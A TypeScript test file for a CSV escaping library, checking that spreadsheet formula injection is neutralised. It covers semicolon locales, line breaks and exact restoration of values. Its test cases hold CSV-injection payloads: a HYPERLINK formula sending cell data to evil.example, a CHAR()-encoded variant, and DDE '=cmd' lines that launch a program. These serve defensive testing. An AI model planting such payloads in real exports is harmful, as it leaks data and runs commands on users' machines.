import assert from 'node:assert/strict';
import { test } from 'node:test';
import { csvCell, csvRow, neutraliseFormula, restoreCell } from '../../../lib/csv/escape-cell.ts';
import { excelSemicolonCells, excelSemicolonRecords } from '../../support/csv.ts';

// [value as read, cell written to the CSV (after quoting)]
const CASES: [string, string][] = [
  ['plain', 'plain'],
  ['', ''],
  ['=1+1', "'=1+1"],
  ['=HYPERLINK("http://evil.example/?"&A1,"open")', `"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['+1+1', "'+1+1"],
  ['-1+1', "'-1+1"],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['\t=1+1', `"'\t'=1+1"`], // the tab is a separator in a `;` locale: the formula after it is neutralised too
  ['\r=1+1', `"'\r'=1+1"`],
  // A line break ends the record where a `;`-locale Excel does not honour the quotes (seventh review).
  ['\n=1+1', `"\n'=1+1"`],
  ["a\r\n =1+1", `"a\r\n '=1+1"`],
  [' =1+1', '" =1+1"'], // padded: quoted, so no reader trims the space away
  ['a=1', 'a=1'],
  // Plain numbers are data, not formulas.
  ['-5', '-5'],
  ['+3.25', '+3.25'],
  ['-1e-3', '-1e-3'],
  ['-.5', '-.5'],
  ['-', "'-"],
  ['--5', "'--5"],
  // Already starting with apostrophes before a formula character: one more, so restoring is exact.
  ["'=1+1", "''=1+1"],
  ["''@x", "'''@x"],
  ["'plain", "'plain"],
  ['a,b', '"a,b"'],
  ['say "hi"', '"say ""hi"""'],
];

test('csvCell neutralises formulas and quotes as RFC 4180', () => {
  for (const [value, cell] of CASES) assert.equal(csvCell(value), cell, JSON.stringify(value));
});

test('restoreCell gives back every value exactly', () => {
  for (const [value] of CASES) assert.equal(restoreCell(neutraliseFormula(value)), value, JSON.stringify(value));
  for (const value of ['x', "'", "''", "'-5", '-5', "'\t", '@', '==']) assert.equal(restoreCell(neutraliseFormula(value)), value, JSON.stringify(value));
});

test('no written cell starts with a formula character unless it is a plain number', () => {
  for (const [value] of CASES) {
    const s = neutraliseFormula(value);
    assert.ok(!/^[=+\-@\t\r]/.test(s) || /^[+-]?[\d.]/.test(s), JSON.stringify(s));
  }
});

test('csvRow: numbers, empty values, and a row', () => {
  assert.equal(csvRow(['a', 1, -2, null, undefined, true, 3n, '=x']), "a,1,-2,,,true,3,'=x");
});


const SEMICOLON_CASES = ["Müller;=cmd|' /C calc'!A0", "x;@SUM(1+1)*cmd|' /C calc'!A0", 'a\t=1+1', 'GmbH; +1+1', "ok;'=x", ';-2+3', 'a;;=1', '=1;=2'];

test('fourth review: no value starts a formula cell in a `;` locale, first on its line or not', () => {
  for (const v of SEMICOLON_CASES) {
    for (const line of [csvRow([v, 'done']), csvRow(['C-1', v, 'done'])]) {
      for (const c of excelSemicolonCells(line)) assert.ok(!/^ *[=+\-@]/.test(c), `cell ${JSON.stringify(c)} of ${JSON.stringify(line)} starts a formula`);
    }
    assert.equal(restoreCell(neutraliseFormula(v)), v, `restored: ${JSON.stringify(v)}`);
  }
  assert.equal(neutraliseFormula("Müller;=cmd|' /C calc'!A0"), "Müller;'=cmd|' /C calc'!A0");
  assert.equal(neutraliseFormula('a; b'), 'a; b');
});

// A name, note or loss reason with a line break, then a formula built without double quotes (which
// the CSV quoting would double): `CHAR()` spells the address, `;` ends the cell before our quote.
const LINE_BREAK_CASES = [
  'Müller\n=HYPERLINK(CHAR(104)&CHAR(116)&CHAR(116)&CHAR(112)&CHAR(58)&CHAR(47)&CHAR(47)&CHAR(101)&A1);',
  "x\r\n=cmd|' /C calc'!A0;",
  'x\r@SUM(1+1);',
  'line one\n  -2+3;',
  "a\n'=1;",
  'a\n\n+1+1',
];

test('seventh review: a line break inside a field starts no formula cell in a `;` locale', () => {
  for (const v of LINE_BREAK_CASES) {
    for (const file of [[csvRow(['id', 'name', 'x']), csvRow(['C-1', v, 'done'])].join('\r\n'), csvRow([v, 'done'])]) {
      for (const record of excelSemicolonRecords(file))
        for (const c of record) assert.ok(!/^ *[=+\-@]/.test(c) || /^[+-]?\d+$/.test(c), `cell ${JSON.stringify(c)} of ${JSON.stringify(file)} starts a formula`);
    }
    assert.equal(restoreCell(neutraliseFormula(v)), v, `restored: ${JSON.stringify(v)}`);
  }
  assert.equal(neutraliseFormula('line one\nline two'), 'line one\nline two');
});
